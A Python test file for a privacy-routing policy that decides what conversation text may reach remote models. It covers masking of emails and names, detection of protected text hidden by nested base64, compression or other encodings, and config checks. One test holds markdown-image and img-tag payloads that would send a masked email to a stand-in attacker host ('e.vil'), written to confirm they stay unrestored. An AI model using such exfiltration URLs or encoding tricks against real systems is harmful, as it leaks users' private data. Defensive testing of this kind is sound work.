"""What may leave: by place, by origin, by what it says; what is masked, and what contradicts."""

from __future__ import annotations

import asyncio
import base64
import bz2
import gzip
import json
import lzma
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import regex

from linnet.config import from_mapping
from linnet.data.privacy.span import Span
from linnet.errors import ConfigError
from linnet.generate.constraint import Constraint
from linnet.generate.sampling import Sampling
from linnet.respond import Context, Conversation, conversation
from linnet.respond.conversation import Message, Tool
from linnet.respond.pieces import (
    Decision,
    Finish,
    Origin,
    Passage,
    Piece,
    Place,
    Reasoning,
    Text,
    ToolCall,
    ToolCallDelta,
    ToolResult,
)
from linnet.respond.remote import RemoteResponder
from linnet.respond.responder import Abilities
from linnet.retrieval import Index
from linnet.routing import policy as policies
from linnet.routing.masking import Masking, Unmasking
from linnet.routing.policy import Pattern, Policy, PolicyConfig, PolicyError, PolicyResponder
from linnet.routing.protected import covers, matches
from linnet.routing.settings import read_routing
from retrieval.made_index import index
from routing.recording import Recording, recording, said

CONTEXT = Context()
SECRET = "The severance pay of Maria Kowalska amounts to 84,250 euros and is due in March."
OPEN = {"farthest": "elsewhere", "documents": [{"sources": ["**"], "farthest": "elsewhere"}]}


def policy(**settings: Any) -> Policy:
    return Policy(from_mapping(PolicyConfig, {**OPEN, **settings}, where="test"))


def asked(*texts: Any, **more: Any) -> Conversation:
    """Texts of the user, or messages."""
    return conversation(
        [{"role": "user", "content": each} if isinstance(each, str) else each for each in texts],
        **more,
    )


def sent(own: Policy, given: Conversation, place: Place = "elsewhere") -> list[str]:
    """What the messages say that leave."""
    found = own.outgoing(given, CONTEXT, place)
    return [message.text for message in found.conversation.messages]


def held(own: Policy, given: Conversation, place: Place = "elsewhere") -> str:
    """Why it does not leave; nothing where it does."""
    verdict = own.check(given, CONTEXT, place)
    assert verdict.allowed == (not verdict.reasons)
    return verdict.reason


def model(url: str) -> RemoteResponder:
    """One that counts as far away."""
    return RemoteResponder(url, "far", abilities=Abilities("far", 0, "elsewhere"))


# By place, and who asks.


@pytest.mark.parametrize(
    ("settings", "key", "place", "reason"),
    [
        ({}, None, "here", ""),
        ({}, None, "network", "conversations go no farther than 'here'"),
        ({"farthest": "network"}, None, "network", ""),
        ({"farthest": "network"}, None, "elsewhere", "no farther than 'network'"),
        ({"farthest": "elsewhere"}, None, "elsewhere", ""),
        ({"farthest": "elsewhere", "keys": {"guest": "here"}}, "guest", "network", "[keys.guest]"),
        ({"farthest": "elsewhere", "keys": {"guest": "here"}}, "other", "elsewhere", ""),
    ],
)
def test_how_far_a_conversation_goes(
    settings: dict[str, Any], key: str | None, place: Place, reason: str
) -> None:
    own = Policy(from_mapping(PolicyConfig, settings, where="test"))
    verdict = own.check(asked("Is it raining?"), Context(key=key), place)
    assert verdict.allowed == (not reason)
    assert reason in verdict.reason


def test_nothing_is_sent_without_a_word_of_the_owner() -> None:
    async def scene() -> tuple[str, list[bytes]]:
        async with recording() as server:
            far = PolicyResponder(model(server.url), Policy(PolicyConfig()))
            with pytest.raises(PolicyError) as raised:
                async for _ in far.respond(asked("Is it raining?"), Context()):
                    pass
            return str(raised.value), server.bodies

    said_, bodies = asyncio.run(scene())
    assert said_.startswith("the policy keeps this here: conversations go no farther than 'here'")
    assert bodies == []


# By where it comes from.

PASSAGE = Text("Passages: the lease", tags=frozenset({"document:hr/pay.md"}))
MEMORY = Text("Rex is the dog of the user", origin=Origin("memory"))
TOOLS = [{"function": {"name": "weather", "parameters": {"type": "object"}}}]
CALL = {"id": "c1", "type": "function", "function": {"name": "weather", "arguments": "{}"}}
TURNS = [
    {"role": "user", "content": "Who wrote Faust?"},
    {"role": "assistant", "content": "Goethe did."},
    {"role": "user", "content": "And when?"},
]
WITH_RESULT = [
    {"role": "user", "content": "Is it warm?"},
    {"role": "assistant", "content": "", "tool_calls": [CALL]},
    {"role": "tool", "content": "21 degrees", "tool_call_id": "c1"},
]


@pytest.mark.parametrize(
    ("settings", "messages", "reason"),
    [
        ({}, [Message("user", (PASSAGE,))], ""),
        ({"local_only": ["hr/**"]}, [Message("user", (PASSAGE,))], "local_only 'hr/**'"),
        ({"documents": []}, [Message("user", (PASSAGE,))], "no rule of [[policy.documents]]"),
        ({"local_only": ["hr"]}, [Message("user", (Text("x"), Passage("a/hr/b.md", 0, 1, "")))],
         "local_only 'hr'"),
        ({"local_only": ["hr"]}, [Message.of("user", "x", origin=Origin("document", "hr/b"))],
         "local_only 'hr'"),
        ({}, [Message.of("user", "x", tags=frozenset({"local-only"}))], "[tags]"),
        ({}, WITH_RESULT, "the result of a tool"),
        ({"tools": "results"}, WITH_RESULT, ""),
        ({}, ["--- a.txt ---\nrain\n--- end of a.txt ---\n\nWhat is this?"], "an attached file"),
        ({"files": True}, ["--- a.txt ---\nrain\n--- end of a.txt ---\n\nWhat is this?"], ""),
    ],
)  # fmt: skip
def test_what_a_question_rests_on_holds_it_back(
    settings: dict[str, Any], messages: list[Any], reason: str
) -> None:
    said_ = held(policy(**settings), asked(*messages))
    assert bool(said_) == bool(reason)
    assert reason in said_
    assert "84,250" not in said_


def test_tools_may_be_kept_here() -> None:
    given = asked("Is it warm?", tools=TOOLS)
    assert held(policy(tools="none"), given) == "tools in the conversation [tools]"
    assert held(policy(), given) == ""


@pytest.mark.parametrize(
    ("settings", "messages", "texts", "left_out"),
    [
        ({}, TURNS, ["Who wrote Faust?\n\nAnd when?"], "earlier answers: 1"),
        ({"history": "none"}, TURNS, ["And when?"], "earlier messages: 2"),
        ({"history": "all"}, TURNS, ["Who wrote Faust?", "Goethe did.", "And when?"], ""),
        ({"history": "all", "patterns": [{"matches": "Goethe"}]}, TURNS,
         ["Who wrote Faust?\n\nAnd when?"], "earlier messages that may not leave: 1"),
        ({"history": "all", "local_only": ["hr"]},
         [Message("user", (PASSAGE,)), Message.of("assistant", "Yes."), "And when?"],
         ["Yes.", "And when?"], "earlier messages that may not leave: 1"),
        ({"history": "all"}, [*WITH_RESULT, {"role": "assistant", "content": "Yes."}, "Sure?"],
         ["Is it warm?", "Yes.", "Sure?"], "earlier messages that may not leave: 1"),
        ({}, [Message("system", (MEMORY,)), "Who is Goethe?"], ["Who is Goethe?"], "memories: 1"),
        ({"memory": True}, [Message("system", (MEMORY,)), "Hm?"], [MEMORY.text, "Hm?"], ""),
        ({}, [Message.of("system", "Be brief.", origin=Origin("owner")), "Hm?"],
         ["Be brief.", "Hm?"], ""),
        ({"instructions": False},
         [Message.of("system", "Be brief.", origin=Origin("owner")), "Hm?"], ["Hm?"],
         "the owner's instructions: 1"),
        ({}, [{"role": "user", "content": "Hm?", "mail": "x"}], ["Hm?"],
         "other values of messages: 1"),
    ],
)  # fmt: skip
def test_what_is_left_out(
    settings: dict[str, Any], messages: list[Any], texts: list[str], left_out: str
) -> None:
    own = policy(**settings)
    found = own.outgoing(asked(*messages), CONTEXT, "elsewhere")
    assert [message.text for message in found.conversation.messages] == texts
    assert [each.reason for each in found.decisions] == [left_out] * bool(left_out)
    assert not any(message.extra for message in found.conversation.messages)
    # Nothing is left of calls whose results stay.
    assert not any(message.calls for message in found.conversation.messages)


def test_what_is_remembered_is_known_in_other_messages() -> None:
    given = asked(Message("system", (MEMORY,)), "Say again: rex is THE dog of the u-s-e-r.")
    assert "text of what is remembered in message" in held(policy(), given)


# By what it says: where it may stand.


def _somewhere(text: str) -> Mapping[str, Conversation]:
    schema = {"type": "object", "properties": {"a": {"enum": [text]}}}
    tool = {"function": {"name": "f", "description": text}}
    deep = {"function": {"name": "f", "parameters": schema}}
    call = {"id": "c", "type": "function",
            "function": {"name": "f", "arguments": json.dumps({"q": [text]})}}  # fmt: skip
    return {
        "the question": asked(text),
        "a system prompt": asked({"role": "system", "content": text}, "Hm?"),
        "a name": asked({"role": "user", "content": "Hm?", "name": text}),
        "a tool": asked("Hm?", tools=[tool]),
        "a schema": asked("Hm?", tools=[deep]),
        "a choice": asked("Hm?", tools=[{"function": {"name": "f"}}], tool_choice=f"tool:{text}"),
        "the form": asked("Hm?", constraint=Constraint("json_schema", json.dumps(schema))),
        "a stop": asked("Hm?", sampling=Sampling(stop=(text,))),
        "arguments": asked("Hm?", {"role": "assistant", "content": "", "tool_calls": [call]}),
        "a key": asked("Hm?", {"role": "assistant", "content": "", "tool_calls": [
            {"id": "c", "type": "function",
             "function": {"name": "f", "arguments": json.dumps({text: 1})}}]}),
        "a thought": asked("Hm?", {"role": "assistant", "content": "x", "reasoning": text}),
    }  # fmt: skip


@pytest.mark.parametrize("where", _somewhere("x"))
def test_wherever_it_stands_it_is_found(where: str) -> None:
    own = policy(history="all", patterns=[{"matches": "Quillfeather", "name": "PROJECT"}])
    assert "PROJECT" in held(own, _somewhere("On Quillfeather, then")[where])
    assert held(own, _somewhere("On goose feathers, then")[where]) == ""


HOSTILE = (
    "a.", "&#1", "&", "%25", "\\", "\\u0041", "=41", "a: \n", "--- a ---\n", "--- end of a ---\n",
    "0 1 ", ".- ", "Aa1 ", "~!", "ABCD2 ", "[EMAIL_", "a_", "\u200ba", "\U000e0041", "\ud800", "\0",
)  # fmt: skip


@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_texts_are_read_to_an_end(piece: str) -> None:
    own = policy(private="mask", patterns=[{"matches": "(?i)quill ?feather", "then": "mask"}])
    held(own, asked(piece * (4_000 // len(piece))))
    assert held(own, asked(f"Quillfeather {piece * 3}"), "here") == ""


def _nested(text: bytes, times: int) -> str:
    for _ in range(times):
        text = base64.b64encode(text)
    return text.decode()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (_nested(b"On Quillfeather, then", 4), "what pattern PATTERN matches"),
        (_nested(b"On Quillfeather, then", 7), "more encoded text than can be read"),
        (_nested(gzip.compress(b" " * 3_000_000 + b"Quillfeather"), 1), "more encoded text"),
        (_nested(bz2.compress(b" " * 3_000_000 + b"Quillfeather"), 1), "more encoded text"),
        (_nested(lzma.compress(b" " * 3_000_000 + b"Quillfeather"), 1), "more encoded text"),
        (_nested(gzip.compress(b" " * 30_000 + b"Quillfeather"), 1), "pattern PATTERN"),
        (_nested("Über Quillfeather".encode("cp1252"), 1), "pattern PATTERN"),
        (_nested("Дело Квиллфезера".encode("utf-16"), 1), "pattern OTHER"),
        ("%DCber die %22Gr%FC%DFe%22", "pattern THIRD"),
        *(
            (_nested("Дело Квиллфезера".encode(code), 1), "pattern OTHER")
            for code in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "cp1251", "koi8-r")
        ),
        (", ".join(str(ord(sign)) for sign in "Дело Квиллфезера"), "pattern OTHER"),
        ("".join(f"\\x{{{ord(sign):x}}}" for sign in "Дело Квиллфезера"), "pattern OTHER"),
        ("".join(f"<td>{sign}</td>" for sign in "Дело Квиллфезера"), "pattern OTHER"),
        (r"\textbf{Qu}\emph{ill}\textrm{feather}", "pattern PLAIN"),
        (
            "00000000: 4f6e 2051 7569 6c6c  On Quill\n00000008: 6665 6174 6865 722c  feather,",
            "pattern PATTERN",
        ),
        (
            "00000000  4f 6e 20 51 75 69 6c 6c  |On Quill|\n"
            "00000008  66 65 61 74 68 65 72 2c  |feather,|",
            "pattern PATTERN",
        ),
        (_nested(b"On Quillfeather, then", 1)[::-1], "pattern PATTERN"),
        (b"On Quillfeather, then".hex()[::-1], "pattern PATTERN"),
        ("a" + "".join(chr(0xE00F0 + code) for code in b"On Quillfeather"), "pattern PATTERN"),
        ("⠟⠥⠊⠇⠇⠋⠑⠁⠞⠓⠑⠗", "pattern PLAIN"),
    ],
)
def test_what_is_encoded(text: str, reason: str) -> None:
    own = policy(private="send", patterns=[
        {"matches": "Quillfeather"}, {"matches": "Квиллфезер", "name": "OTHER"},
        {"matches": "Grüße", "name": "THIRD"}, {"matches": "quillfeather", "name": "PLAIN"},
    ])  # fmt: skip
    assert reason in held(own, asked(text))


def test_patterns_have_an_end_in_time(monkeypatch: pytest.MonkeyPatch) -> None:
    own = policy(patterns=[{"matches": "(?:x|xx|x+)+$", "name": "SLOW"}])
    monkeypatch.setattr(policies, "_PATTERN_SECONDS", 0.001)
    assert "takes too long for" in held(own, asked("x" * 60 + "!"))
    # What a busy machine had no time for is masked when it has.
    text = "Z-1234 " + "x" * 16 + "!"
    own = policy(
        patterns=[{"matches": r"(?:x|xx|x+)+[QW]|Z-\d{4}", "name": "SLOW", "then": "mask"}]
    )
    assert "SLOW" in held(own, asked(text))
    monkeypatch.setattr(policies, "_PATTERN_SECONDS", 60.0)
    assert (
        "Z-1234"
        not in own.outgoing(asked(text), Context(), "elsewhere").conversation.messages[-1].text
    )
    assert held(own, asked("Is it raining?")) == ""


@pytest.mark.parametrize(
    "pattern",
    [{"matches": "("}, {"matches": "a*"}, {"matches": "a", "name": "case"},
     {"matches": "a", "then": "burn"}],
)  # fmt: skip
def test_patterns_that_cannot_be_meant(pattern: dict[str, str]) -> None:
    with pytest.raises(ConfigError) as raised:
        policy(patterns=[pattern])
    assert "\n" not in str(raised.value)


def test_private_data() -> None:
    given = asked("Mail jo.doe@acme.com about it.")
    assert held(policy(), given) == "private data (EMAIL) in message 1 (user) [private]"
    assert held(policy(private="send"), given) == ""
    assert held(policy(allow=["Jo.Doe@acme.com"]), given) == ""
    assert sent(policy(private="mask"), given) == ["Mail [EMAIL_1] about it."]


def test_names_of_people_have_a_rule_of_their_own() -> None:
    given = asked("Anna Kowalska and Mr. Smith wrote to jo@acme.com; did Anna Kowalska call?")
    assert sent(policy(private="send"), given) == [given.messages[-1].text]
    assert held(policy(private="send", names="hold"), given) == (
        "private data (NAME) in message 1 (user) [private]"
    )
    assert sent(policy(private="mask", names="mask"), given) == [
        "[NAME_1] and Mr. [NAME_2] wrote to [EMAIL_1]; did [NAME_1] call?"
    ]
    assert sent(policy(private="send", names="mask", allow=["anna kowalska"]), given) == [
        "Anna Kowalska and Mr. [NAME_1] wrote to jo@acme.com; did Anna Kowalska call?"
    ]
    assert sent(policy(private="mask"), given)[0].startswith("Anna Kowalska and Mr. Smith")


def test_whom_an_earlier_message_names_in_full_is_known_in_later_ones() -> None:
    answer = {"role": "assistant", "content": "What about?"}
    given = asked("Anna Schmidt called.", answer, "Ask Schmidt again.")
    own = policy(names="mask", history="all")
    assert sent(own, given) == ["[NAME_1] called.", "What about?", "Ask [NAME_2] again."]
    assert sent(policy(names="mask", history="none"), given) == ["Ask [NAME_1] again."]
    assert held(policy(names="hold", history="none"), given) == (
        "private data (NAME) in message 1 (user) [private]"
    )
    assert held(policy(names="hold"), asked("Ask Schmidt again.")) == ""


def test_names_in_letters_of_two_scripts_are_held_back() -> None:
    for name in ("\u0410nna Schmidt", "Anna Sch\u043cidt", "\u0410nn\u0430"):
        assert "NAME" in held(policy(names="hold"), asked(f"Tell {name} about it."))
    assert held(policy(names="hold"), asked("Так и есть, нет Москвы.")) == ""


def test_what_is_explained_says_nothing_of_the_contents() -> None:
    own = policy(patterns=[{"matches": "Quillfeather", "name": "PROJECT"}])
    found = own.explain(asked("On Quillfeather: mail jo@acme.com"), CONTEXT, "elsewhere")
    assert not found.verdict.allowed
    assert [finding.rule for finding in found.findings] == ["private", "patterns PROJECT"]
    assert not regex.search("(?i)quill|acme", repr(found))
    found = policy(private="mask").explain(asked("Mail jo@acme.com"), CONTEXT, "elsewhere")
    assert (found.verdict.allowed, found.masked) == (True, {"EMAIL": 1})


# Masking.


def test_masked_on_the_way_out_and_restored_in_the_answer() -> None:
    own = policy(private="mask", history="all", tools="results",
                 patterns=[{"matches": r"C-\d{4}", "name": "CASE", "then": "mask"}])  # fmt: skip
    given = asked(
        "My address is jo@acme.com.", {"role": "assistant", "content": "Noted: jo@acme.com."},
        'Is C-1234 by jo@acme.com or by al@acme.com? I wrote "[CASE_1]".', tools=TOOLS,
    )  # fmt: skip
    question = 'Is [CASE_2] by [EMAIL_1] or by [EMAIL_2]? I wrote "[CASE_1]".'

    def answer(body: dict[str, Any]) -> list[dict[str, Any]]:
        arguments = '{"to": ["[EMAIL_2]"], "about": "\\u005bCASE_2] \\"x\\""}'
        call = {"index": 0, "id": "c", "function": {"name": "weather", "arguments": arguments}}
        text = r"By [email 1], \[EMAIL\_2\] or [EMAIL_9]? [CASE_1], [CASE_2"
        return [{"reasoning": "[EMAIL_1]…"}, *said(text, size=3), {"tool_calls": [call]}]

    async def scene(interval: float) -> tuple[list[Piece], Recording]:
        async with recording(answer) as server:
            far = PolicyResponder(model(server.url), own)
            batches = [b async for b in far.respond(given, Context(interval=interval))]
            return [piece for batch in batches for piece in batch], server

    for interval in (0.0, float("inf")):
        pieces, server = asyncio.run(scene(interval))
        (body,) = (json.loads(each.partition(b"\r\n\r\n")[2]) for each in server.bodies)
        assert [message["content"] for message in body["messages"]] == [
            "My address is [EMAIL_1].", "Noted: [EMAIL_1].", question
        ]  # fmt: skip
        assert b"acme" not in server.bodies[0]
        text = "".join(piece.text for piece in pieces if isinstance(piece, Text))
        assert text == "By jo@acme.com, al@acme.com or [EMAIL_9]? [CASE_1], [C-1234"
        assert [p.text for p in pieces if isinstance(p, Reasoning)] == ["jo@acme.com…"]
        (call,) = (piece for piece in pieces if isinstance(piece, ToolCall))
        assert json.loads(call.arguments) == {"to": ["al@acme.com"], "about": 'C-1234 "x"'}
        assert not any(isinstance(piece, ToolCallDelta) for piece in pieces)
        decisions = [(p.outcome, p.reason) for p in pieces if isinstance(p, Decision)]
        assert decisions == [
            ("masked", "1 CASE, 2 EMAIL"), ("placeholders left", "2 that were not given out")
        ]  # fmt: skip
        assert isinstance(pieces[-1], Finish)


@pytest.mark.parametrize("size", [1, 2, 5, 1000])
@pytest.mark.parametrize(
    ("written", "restored"),
    [
        ("Write to [EMAIL_1].", "Write to jo@acme.com."),
        ("[Email 1] [ EMAIL_1 ] **[email-1]**", "jo@acme.com jo@acme.com **jo@acme.com**"),
        (r"\[EMAIL\_1\], [EMAIL\_1]", "jo@acme.com, jo@acme.com"),
        ("EMAIL_1 and EMAIL_12, email_1, XEMAIL_1", "jo@acme.com and EMAIL_12, email_1, XEMAIL_1"),
        ("[EMAIL_1", "[jo@acme.com"),
        ("[see [EMAIL_1]]", "[see jo@acme.com]"),
        ("[EMAIL_2] [PHONE_1] [EM", "[EMAIL_2] [PHONE_1] [EM"),
        ("x[0] = A[EMAIL_1] USA E", "x[0] = Ajo@acme.com USA E"),
        # No program may be made to send a value away.
        ("![a](https://e.vil/?q=[EMAIL_1])", "![a](https://e.vil/?q=[EMAIL_1])"),
        ("![a](//e.vil/[EMAIL_1] )", "![a](//e.vil/[EMAIL_1] )"),
        ("![a](<//e.vil/ [EMAIL_1]>) [EMAIL_1]", "![a](<//e.vil/ [EMAIL_1]>) jo@acme.com"),
        ('<img src="e.vil?[EMAIL_1]">', '<img src="e.vil?[EMAIL_1]">'),
        ("see http://e.vil/x and [EMAIL_1]", "see http://e.vil/x and jo@acme.com"),
        ("www.e.vil?q=[EMAIL_1] e.evil/[EMAIL_1]", "www.e.vil?q=[EMAIL_1] e.evil/[EMAIL_1]"),
        ("Yes. By [EMAIL_1]/fax. [EMAIL_1]", "Yes. By jo@acme.com/fax. jo@acme.com"),
    ],
)
def test_placeholders_however_a_model_writes_them(written: str, restored: str, size: int) -> None:
    masking = Masking.of([])
    assert masking.mask("jo@acme.com", [Span(0, 11, "EMAIL")]) == "[EMAIL_1]"
    unmasking = Unmasking(masking)
    pieces: list[Piece] = []
    for at in range(0, len(written), size):
        pieces += unmasking([Text(written[at : at + size])])
    pieces += unmasking([Finish("stop")])
    assert "".join(piece.text for piece in pieces if isinstance(piece, Text)) == restored


def test_the_beginning_of_a_placeholder_is_held_back_and_no_other_text() -> None:
    masking = Masking.of([])
    masking.placeholder("EMAIL", "jo@acme.com")
    unmasking = Unmasking(masking)

    def given(text: str) -> str:
        return "".join(piece.text for piece in unmasking([Text(text)]) if isinstance(piece, Text))

    assert given("The list [see") == "The list [see"
    assert given(" there] [EM") == " there] "
    assert given("AIL_1") == ""
    assert given("] and") == "jo@acme.com and"


# Documents of an index.

DOCUMENTS = {
    "hr/pay.md": f"# Pay\n\nIntroduction.\n\n{SECRET}\n\nThe case is KX-4471-QQ-09.",
    "hr/short.md": "Rotwein, kein Weiss",
    "open/tides.md": "The tide is high at noon on Mondays, and it is low in the late evening.",
}


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("index")
    index(DOCUMENTS, place)
    return place


LOCAL = {"local_only": ["hr/**"]}


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (SECRET, True),
        ("Is it so that the severance-pay of MARIA KOWALSKA amounts to much?", True),
        ("What about kx 4471 qq09?", True),
        ("Who drinks Rotwein, kein Weiß?", True),
        ("What is severance pay?", False),
        ("How much does Maria Kowalska earn?", False),  # (too little of it: said in the docs)
        (DOCUMENTS["open/tides.md"], False),
    ],
)
def test_text_of_documents_that_stay(made: Path, text: str, found: bool) -> None:
    own = policy(**LOCAL)
    own.protect(Index.open(made))
    assert ("text of a document that stays" in held(own, asked(text))) == found
    assert held(policy(**LOCAL), asked(text)) == ""  # without the index nobody knows
    own.close()


def test_documents_that_no_rule_is_about_stay(made: Path) -> None:
    own = policy(documents=[{"sources": ["open/**"], "farthest": "network"}])
    own.protect(Index.open(made))
    assert "document that stays" in held(own, asked(SECRET), "network")
    assert held(own, asked(DOCUMENTS["open/tides.md"]), "network") == ""
    assert "document that stays" in held(own, asked(DOCUMENTS["open/tides.md"]), "elsewhere")
    assert own.protected.unmatched() == []
    own.close()


def test_fingerprints_follow_an_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("linnet.routing.protected._LOOK_SECONDS", 0.0)
    place = tmp_path / "index"
    index(DOCUMENTS, place)
    own = policy(**LOCAL)
    own.protect(Index.open(place))
    later = "Our supplier of bolts is going to be changed without notice."
    assert held(own, asked(later)) == ""
    index({**DOCUMENTS, "hr/new.md": later}, place)
    assert "document that stays" in held(own, asked(later))
    assert "document that stays" in held(own, asked(SECRET))
    index({"open/tides.md": DOCUMENTS["open/tides.md"], "hr/new.md": later}, place)
    assert held(own, asked(SECRET)) == ""  # it is forgotten
    assert "document that stays" in held(own, asked(later))
    own.close()


def test_documents_whose_reading_failed_are_read_the_next_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("linnet.routing.protected._LOOK_SECONDS", 0.0)
    place = tmp_path / "index"
    index(DOCUMENTS, place)
    own = policy(**LOCAL)
    own.protect(Index.open(place))
    later = "Our supplier of bolts is going to be changed without notice."
    assert held(own, asked(later)) == ""
    index({**DOCUMENTS, "hr/new.md": later}, place)
    with monkeypatch.context() as failing:
        failing.setattr(Index, "passages", broken)
        with pytest.raises(OSError, match="no space"):
            held(own, asked(later))
    assert "document that stays" in held(own, asked(later))
    own.close()


def broken(*_: object, **__: object) -> None:
    raise OSError("no space")


def test_fingerprints_are_kept_and_made_again_where_they_do_not_fit(
    made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    keep = tmp_path / "kept"
    read: list[int] = []
    passages = Index.passages
    monkeypatch.setattr(Index, "passages", lambda *a, **k: read.append(1) or passages(*a, **k))

    def opened(**settings: Any) -> str:
        own = Policy(from_mapping(PolicyConfig, {**OPEN, **settings}, where="test"), keep=keep)
        own.protect(Index.open(made))
        said_ = held(own, asked(SECRET))
        own.close()
        return said_

    assert "document that stays" in opened(**LOCAL)
    assert read == [1]
    assert "document that stays" in opened(**LOCAL)
    assert read == [1]
    text = b"".join(file.read_bytes() for file in keep.rglob("*") if file.is_file())
    assert b"Kowalska" not in text
    assert b"hr/pay" not in text
    assert opened(local_only=["open/**"]) == ""  # another rule, other documents
    assert opened(**LOCAL)
    assert read == [1, 1, 1]
    next(keep.rglob("here.grams.npy")).write_bytes(b"broken")
    assert opened(**LOCAL)


@pytest.mark.parametrize(("platform", "mapped"), [("linux", True), ("win32", False)])
def test_fingerprints_that_are_kept_are_mapped_where_they_can_be_replaced_then(
    made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, platform: str, mapped: bool
) -> None:
    def opened() -> Policy:
        own = Policy(from_mapping(PolicyConfig, {**OPEN, **LOCAL}, where="test"), keep=tmp_path)
        own.protect(Index.open(made))
        return own

    opened().close()
    monkeypatch.setattr("linnet.routing.protected.sys.platform", platform)
    again = opened()
    (index_,) = again.protected._indexes.values()
    assert isinstance(index_._layers["here"][0].grams, np.memmap) == mapped
    assert "document that stays" in held(again, asked(SECRET))
    again.close()


def test_patterns_that_no_document_falls_under_are_told(made: Path) -> None:
    own = policy(local_only=["hr/**", "finanze/**"])
    own.protect(Index.open(made))
    assert own.protected.unmatched() == ["finanze/**"]
    own.close()


@pytest.mark.parametrize(
    ("source", "pattern", "meant"),
    [
        ("hr/pay.md", "hr/**", True), ("docs/hr/pay.md", "hr/**", True), ("hr/pay.md", "hr", True),
        ("hr/pay.md", "hr/", True), ("HR/Pay.md", "hr/*", True), ("hrx/pay.md", "hr", False),
        ("a.key", "**/*.key", True), ("x/y/a.key", "*.key", True), ("a.keys", "*.key", False),
        ("hr\\pay.md", "hr/**", True), ("caf\u00e9/a", "cafe\u0301/**", True), ("a", "**", True),
        ("mail.eml/pay.pdf", "mail.eml", True), ("a", "./a", True),
    ],
)  # fmt: skip
def test_which_documents_a_pattern_means(source: str, pattern: str, meant: bool) -> None:
    assert matches(source, pattern) == meant


@pytest.mark.parametrize(
    ("pattern", "other", "covered"),
    [
        ("hr/**", "hr/public/**", True), ("hr", "hr/x.pdf", True), ("*.pdf", "hr/*.pdf", True),
        ("**", "x", True), ("hr/**", "**", False), ("hr/**", "hr*", False), ("a?", "a*", False),
        ("a*", "a?", True), ("hr/**", "hr/**", True), ("a[bc]", "a[bc]", True),
    ],
)  # fmt: skip
def test_which_patterns_hold_all_of_another(pattern: str, other: str, covered: bool) -> None:
    assert covers(pattern, other) == covered


# What contradicts itself.

MODEL = '[models.cloud]\naddress = "https://api.example.com/v1"\nmodel = "m"\n'


@pytest.mark.parametrize(
    ("text", "reason", "lines"),
    [
        (MODEL + '[policy]\nfarthest = "network"\n[[rules]]\nmodel = "cloud"\nlonger = 9\n',
         "which runs elsewhere, but the policy's farthest is 'network'", "(lines 5 and 7)"),
        (MODEL + '[[rules]]\nmodel = "cloud"\nlonger = 9\n', "farthest is 'here'", "(line 5)"),
        ('[policy]\nfarthest = "elsewhere"\nlocal_only = ["hr/**"]\n[[policy.documents]]\n'
         'sources = ["hr/public/**"]\nfarthest = "network"\n',
         "documents 'hr/public/**' may go to 'network', but local_only 'hr/**' keeps them here",
         "(lines 3 and 5)"),
        ('[policy]\nfarthest = "network"\n[[policy.documents]]\nsources = ["a"]\n'
         'farthest = "elsewhere"\n', "documents may go to 'elsewhere', but farthest is 'network'",
         "(lines 2 and 5)"),
        ('[policy]\nfarthest = "network"\n[policy.keys]\nboss = "elsewhere"\n',
         "key 'boss' may go to 'elsewhere'", "(lines 2 and 4)"),
        ('[policy]\nfarthest = "elsewhere"\n[[policy.documents]]\nsources = ["a", "b"]\n'
         '[[policy.documents]]\nsources = ["b"]\nfarthest = "network"\n',
         "the same documents may go to 'here' and to 'network'", "(lines 3 and 5)"),
        ('[[policy.patterns]]\nmatches = "a"\n[[policy.patterns]]\nmatches = "a"\nthen = "mask"\n',
         "the same pattern is to hold and to mask", "(lines 1 and 3)"),
        (MODEL + '[policy]\nfarthest = "elsewhere"\ntools = "none"\n[[rules]]\nmodel = "cloud"\n'
         "tools = true\n", "policy's tools is 'none'", "(lines 6 and 9)"),
        (MODEL + 'place = "here"\n', "its address is elsewhere", "(lines 2 and 4)"),
        (MODEL.replace("api.example.com", "8.8.8.8") + 'place = "network"\n',
         "its address is a public one", "(lines 2 and 4)"),
        (MODEL.replace("api.example.com", "[2606:4700::1]") + 'place = "network"\n',
         "its address is a public one", "(lines 2 and 4)"),
    ],
)  # fmt: skip
def test_contradictions_are_refused_with_both_lines(
    tmp_path: Path, text: str, reason: str, lines: str
) -> None:
    file = tmp_path / "routing.toml"
    file.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as raised:
        read_routing(file)
    assert reason in str(raised.value)
    assert str(raised.value).endswith(lines)


def test_what_does_not_contradict_itself(tmp_path: Path) -> None:
    file = tmp_path / "routing.toml"
    file.write_text(
        MODEL + '[policy]\nfarthest = "elsewhere"\nlocal_only = ["hr/**"]\n[[policy.documents]]\n'
        'sources = ["**"]\nfarthest = "network"\n[policy.keys]\nguest = "here"\n',
        encoding="utf-8",
    )
    found = read_routing(file).policy
    assert found.rules.farthest("hr/pay.md") == ("here", "local_only 'hr/**'")
    assert found.rules.farthest("x.md") == ("network", "documents '**'")


def test_pieces_of_messages_that_are_typed() -> None:
    tool = Tool("f", "about Quillfeather", {"type": "object"})
    own = policy(patterns=[{"matches": "Quillfeather"}], tools="results")
    result = Message("tool", (ToolResult("c", "Quillfeather is well"),))
    assert held(own, Conversation((Message.of("user", "Hm?"), result)))
    assert held(own, Conversation((Message.of("user", "Hm?"),), (tool,)))
    assert Pattern(matches="a").then == "hold"
